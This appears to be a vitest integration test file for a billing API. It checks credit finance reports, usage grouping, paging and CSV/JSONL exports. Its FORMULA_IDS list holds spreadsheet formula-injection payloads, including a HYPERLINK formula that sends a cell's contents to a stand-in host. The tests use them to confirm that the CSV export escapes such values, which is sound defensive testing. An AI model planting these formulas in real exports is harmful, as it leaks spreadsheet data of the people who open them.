import { beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, toCsv, type ExportRow } from '../../functions/http/export-usage.js';
import { LocalStreamPoller } from '../../infra/local/stream-poller.js';
import { TOKENS, useLocalApi, type LocalApi } from '../support/local-api.js';

/**
 * The projection routes over HTTP through the local runtime, on the stories the README tells: the finance months
 * worked by hand (packs at $10/1,000 and $45/5,000, consumed across a month end), the SPEC's usage example, a CSV
 * export whose values hold commas, quotes and newlines, and the errors a client can make.
 */

const FORMULA_IDS = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1', '-1', '@SUM(A1:A2)', '\tindented', '\rreturned', 'bot=+-@'];

const api = useLocalApi({ services: [new LocalStreamPoller({ mappings: ['projectLedger'] })], start: new Date('2026-11-26T10:00:00.000Z') });

async function at(local: LocalApi, iso: string): Promise<void> {
  local.clock.set(new Date(iso));
}

async function ok(local: LocalApi, method: string, path: string, body: unknown, status = 201): Promise<void> {
  const res = await local.request(method, path, { body });
  if (res.status !== status) throw new Error(`${method} ${path}: ${res.status} ${res.text}`);
}

async function sync(local: LocalApi): Promise<void> {
  const res = await local.request('POST', '/_local/sync', { key: null, token: null });
  if (res.status !== 200) throw new Error(`sync failed: ${res.status} ${res.text}`);
}

beforeAll(async () => {
  const local = api();
  // The README's finance example.
  await at(local, '2026-11-26T10:00:00.000Z');
  await ok(local, 'POST', '/v1/accounts', { accountId: 'acme', plan: 'free' });
  await at(local, '2026-11-27T09:00:00.000Z');
  await ok(local, 'POST', '/v1/accounts/acme/purchases', { pack: 'pack_1000', paymentRef: 'pay-1' });
  await at(local, '2026-11-27T09:30:00.000Z');
  await ok(local, 'POST', '/v1/accounts/acme/purchases', { pack: 'pack_5000', paymentRef: 'pay-2' });
  await at(local, '2026-11-28T12:00:00.000Z');
  await ok(local, 'POST', '/v1/usage', { accountId: 'acme', feature: 'chat', model: 'standard', inputTokens: 300_000 }); // 600 credits
  await at(local, '2026-12-27T12:00:00.000Z'); // cycle 1 began on Dec 26: rolled over by this command
  await ok(local, 'POST', '/v1/usage', { accountId: 'acme', feature: 'chat', model: 'standard', inputTokens: 20_000 }); // 40
  await at(local, '2026-12-28T12:00:00.000Z');
  await ok(local, 'POST', '/v1/usage', { accountId: 'acme', feature: 'chat', model: 'mini', inputTokens: 1_520_002 }); // 760.001
  // The SPEC's usage example and an export with awkward values.
  await ok(local, 'POST', '/v1/accounts', { accountId: 'spec', plan: 'pro' });
  await ok(local, 'POST', '/v1/usage', { accountId: 'spec', feature: 'chat', model: 'standard', inputTokens: 1234, outputTokens: 567 });
  await ok(local, 'POST', '/v1/usage', {
    accountId: 'spec',
    feature: 'chatbot',
    model: 'mini',
    inputTokens: 333,
    chatbotId: 'support, "EU"\nteam',
    occurredAt: '2026-12-28T11:59:00.000Z',
  });
  await ok(local, 'POST', '/v1/usage', { accountId: 'spec', feature: 'image', quality: 'hd', units: 3 });
  // Chatbot ids a spreadsheet would read as formulas (and one that merely contains a sign).
  await ok(local, 'POST', '/v1/accounts', { accountId: 'formulas', plan: 'free' });
  for (const chatbotId of FORMULA_IDS) {
    await ok(local, 'POST', '/v1/usage', { accountId: 'formulas', feature: 'chatbot', model: 'mini', inputTokens: 2, chatbotId });
  }
  // The README's finance example goes on: January's cycle, then a negative adjustment in February.
  await at(local, '2027-01-27T12:00:00.000Z'); // cycle 2 began on Jan 26
  await ok(local, 'POST', '/v1/usage', { accountId: 'acme', feature: 'chat', model: 'standard', inputTokens: 15_000 }); // 30
  await at(local, '2027-02-28T12:00:00.000Z'); // cycle 3 began on Feb 26: 70 expire, 100 granted, then 990 removed
  const adjusted = await local.request('POST', '/v1/accounts/acme/adjustments', { token: TOKENS.finance, body: { credits: -990, reason: 'goodwill correction' } });
  if (adjusted.status !== 201) throw new Error(`adjustment: ${adjusted.status} ${adjusted.text}`);
  await sync(local);
});

describe('GET /v1/reports/finance', () => {
  it('November: 6,000 credits sold for $55.00, $5.00 recognised on 500 purchased credits consumed, $50.00 deferred on 5,500', async () => {
    const res = await api().request('GET', '/v1/reports/finance?month=2026-11', { token: TOKENS.finance });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      month: '2026-11',
      currency: 'USD',
      granted: 100, // the spec account opens in December
      consumed: { monthly: 100, purchased: 500, total: 600, metered: 0, recognizedRevenueUsd: 5 },
      expired: 0,
      purchased: { credits: 6000, revenueUsd: 55, packs: 2 },
      adjustments: { credited: 0, debited: { monthly: 0, purchased: 0, total: 0 }, releasedRevenueUsd: 0 },
      outstanding: { credits: 5500, deferredRevenueUsd: 50 },
    });
  });

  it('December: consumption runs from the $10 pack into the $45 one; $6.800009 recognised shows as $6.80, $43.199991 deferred as $43.20', async () => {
    const res = await api().request('GET', '/v1/reports/finance?month=2026-12', { token: TOKENS.finance });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      month: '2026-12',
      consumed: { purchased: 700.001, recognizedRevenueUsd: 6.8 },
      purchased: { credits: 0, revenueUsd: 0, packs: 0 },
      outstanding: { credits: 4799.999, deferredRevenueUsd: 43.2 },
    });
  });

  it('February: a −990 adjustment is no usage; by bucket it took 100 monthly and 890 purchased credits, whose $8.01 is released from deferred revenue, not recognised', async () => {
    const res = await api().request('GET', '/v1/reports/finance?month=2027-02', { token: TOKENS.finance });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      month: '2027-02',
      currency: 'USD',
      granted: 100,
      consumed: { monthly: 0, purchased: 0, total: 0, metered: 0, recognizedRevenueUsd: 0 },
      expired: 70,
      purchased: { credits: 0, revenueUsd: 0, packs: 0 },
      adjustments: { credited: 0, debited: { monthly: 100, purchased: 890, total: 990 }, releasedRevenueUsd: 8.01 },
      outstanding: { credits: 3909.999, deferredRevenueUsd: 35.19 }, // exactly $35.189991: $55 − $11.800009 − $8.01
    });
  });

  it('is for finance only, and a month is YYYY-MM', async () => {
    expect((await api().request('GET', '/v1/reports/finance?month=2026-12', { token: TOKENS.customer('acme') })).status).toBe(403);
    const bad = await api().request('GET', '/v1/reports/finance?month=2026-13', { token: TOKENS.finance });
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatchObject({ code: 'validation_failed', details: { fields: [{ path: 'month' }] } });
  });
});

describe('GET /v1/accounts/{id}/usage', () => {
  it('given chat/standard usage of 1,234 + 567 tokens, then grouped by feature it shows 3.602 credits and one request (SPEC §9)', async () => {
    const res = await api().request('GET', '/v1/accounts/spec/usage?from=2026-12-28&to=2026-12-28&groupBy=feature', { token: TOKENS.customer('spec') });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      accountId: 'spec',
      from: '2026-12-28T00:00:00.000Z',
      to: '2026-12-29T00:00:00.000Z',
      groupBy: 'feature',
      groups: [
        { key: 'chat', credits: 3.602, inputTokens: 1234, outputTokens: 567, units: 0, requests: 1 },
        { key: 'chatbot', credits: 0.167, inputTokens: 333, outputTokens: 0, units: 0, requests: 1 },
        { key: 'image', credits: 24, inputTokens: 0, outputTokens: 0, units: 3, requests: 1 },
      ],
      totals: { credits: 27.769, inputTokens: 1567, outputTokens: 567, units: 3, requests: 3 },
    });
  });

  it('grouped by model, images appear as image-hd', async () => {
    const res = await api().request('GET', '/v1/accounts/spec/usage?from=2026-12-28&to=2026-12-28&groupBy=model', { token: TOKENS.service });
    expect(res.body.groups.map((g: { key: string }) => g.key)).toEqual(['image-hd', 'mini', 'standard']);
  });

  it('an instant range honours the time of day: from 11:59:30 only the later two records count', async () => {
    const res = await api().request('GET', '/v1/accounts/spec/usage?from=2026-12-28T11:59:30Z&to=2026-12-29&groupBy=feature', { token: TOKENS.service });
    expect(res.body.totals).toMatchObject({ credits: 27.602, requests: 2 });
  });

  it('refuses a range that ends before it starts, another customer’s account, and an unknown account', async () => {
    const backwards = await api().request('GET', '/v1/accounts/spec/usage?from=2026-12-29&to=2026-12-01', { token: TOKENS.service });
    expect(backwards.status).toBe(400);
    expect(backwards.body.error.details.fields[0].path).toBe('from');
    expect((await api().request('GET', '/v1/accounts/spec/usage', { token: TOKENS.customer('acme') })).status).toBe(403);
    expect((await api().request('GET', '/v1/accounts/nobody/usage', { token: TOKENS.service })).status).toBe(404);
    expect((await api().request('GET', '/v1/accounts/spec/usage?groupBy=week', { token: TOKENS.service })).status).toBe(400);
  });
});

describe('GET /v1/accounts/{id}/usage/export', () => {
  it('as CSV: a header, one CRLF-terminated row per usage record, fields with commas, quotes or newlines quoted with quotes doubled', async () => {
    const res = await api().request('GET', '/v1/accounts/spec/usage/export?from=2026-12-28&to=2026-12-28', { token: TOKENS.customer('spec') });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="usage-spec-2026-12-28-2026-12-28.csv"');
    expect(res.headers.get('x-row-count')).toBe('3');
    const lines = res.text.split('\r\n');
    expect(lines[0]).toBe(
      'occurredAt,recordedAt,version,feature,model,quality,chatbotId,inputTokens,outputTokens,units,quantity,credits,monthlyCredits,purchasedCredits,unlimited,rateCredits,ratePer,rateMeasure,catalogVersion',
    );
    expect(lines[1]).toBe('2026-12-28T11:59:00.000Z,2026-12-28T12:00:00.000Z,4,chatbot,mini,,"support, ""EU""\nteam",333,0,0,333,0.167,0.167,0,false,0.5,1000,tokens,2026-11-01');
    expect(lines[2]).toBe('2026-12-28T12:00:00.000Z,2026-12-28T12:00:00.000Z,3,chat,standard,,,1234,567,0,1801,3.602,3.602,0,false,2,1000,tokens,2026-11-01');
    // An image has a quality and no model: the export shows what was reported, not the report's `image-hd` key.
    expect(lines[3]).toMatch(/^2026-12-28T12:00:00\.000Z,2026-12-28T12:00:00\.000Z,5,image,,hd,,0,0,3,3,24,24,0,false,8,1,units,/);
    expect(lines[4]).toBe('');
    expect(lines).toHaveLength(5);
  });

  it('as JSON lines, paged: limit=2 gives two rows and a cursor (also in a Link header) to the third', async () => {
    const first = await api().request('GET', '/v1/accounts/spec/usage/export?from=2026-12-28&to=2026-12-28&format=jsonl&limit=2', { token: TOKENS.service });
    expect(first.status).toBe(200);
    expect(first.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const rows = first.text.trim().split('\n').map((l) => JSON.parse(l));
    expect(rows.map((r) => r.chatbotId)).toEqual(['support, "EU"\nteam', null]);
    const cursor = first.headers.get('x-next-cursor') as string;
    expect(first.headers.get('link')).toContain(`cursor=${cursor}`);
    const second = await api().request('GET', `/v1/accounts/spec/usage/export?from=2026-12-28&to=2026-12-28&format=jsonl&limit=2&cursor=${cursor}`, { token: TOKENS.service });
    expect(second.text.trim().split('\n').map((l) => JSON.parse(l).feature)).toEqual(['image']);
    expect(second.headers.get('x-next-cursor')).toBeNull();
  });

  it('as CSV, a text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) starts with a single quote; JSONL keeps it verbatim', async () => {
    const csv = await api().request('GET', '/v1/accounts/formulas/usage/export?from=2026-12-28&to=2026-12-28', { token: TOKENS.service });
    expect(csv.status).toBe(200);
    const chatbotCells = csv.text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => /^(?:[^,]*,){6}("(?:[^"]|"")*"|[^,]*),/.exec(line)?.[1]);
    expect(chatbotCells).toEqual([
      `"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`,
      "'+1",
      "'-1",
      "'@SUM(A1:A2)",
      "'\tindented",
      `"'\rreturned"`,
      'bot=+-@', // a sign inside the text is not a formula
    ]);
    const jsonl = await api().request('GET', '/v1/accounts/formulas/usage/export?from=2026-12-28&to=2026-12-28&format=jsonl', { token: TOKENS.service });
    expect(jsonl.text.trim().split('\n').map((l) => JSON.parse(l).chatbotId)).toEqual(FORMULA_IDS);
  });

  it('as CSV, numbers are never prefixed, not even a negative one', () => {
    const row = { ...Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, null])), credits: -1.5, version: 7, unlimited: false, chatbotId: '-x' } as ExportRow;
    const [, line] = toCsv([row]).split('\r\n');
    expect(line?.split(',')).toEqual(['', '', '7', '', '', '', "'-x", '', '', '', '', '-1.5', '', '', 'false', '', '', '', '']);
  });

  it('refuses a cursor it did not issue', async () => {
    const res = await api().request('GET', '/v1/accounts/spec/usage/export?cursor=bm9wZQ', { token: TOKENS.service });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('invalid_cursor');
  });
});

describe('GET /v1/reports/balances', () => {
  it('lists each account with its buckets, total and percent of allocation; filters by plan', async () => {
    const all = await api().request('GET', '/v1/reports/balances', { token: TOKENS.finance });
    expect(all.status).toBe(200);
    const acme = all.body.items.find((i: { accountId: string }) => i.accountId === 'acme');
    expect(acme).toMatchObject({
      plan: 'free',
      unlimited: false,
      monthly: { allocation: 100, remaining: 0 },
      purchased: { remaining: 3909.999 },
      total: 3909.999,
      percentOfAllocation: 3909.99, // 3,909.999 of 100 credits, truncated: never shown above the balance
    });
    expect(all.body.nextCursor).toBeNull();
    const pro = await api().request('GET', '/v1/reports/balances?plan=pro', { token: TOKENS.finance });
    expect(pro.body.items.map((i: { accountId: string }) => i.accountId)).toEqual(['spec']);
    expect((await api().request('GET', '/v1/reports/balances?plan=gold', { token: TOKENS.finance })).status).toBe(400);
    expect((await api().request('GET', '/v1/reports/balances?belowPercent=150', { token: TOKENS.finance })).status).toBe(400);
  });
});
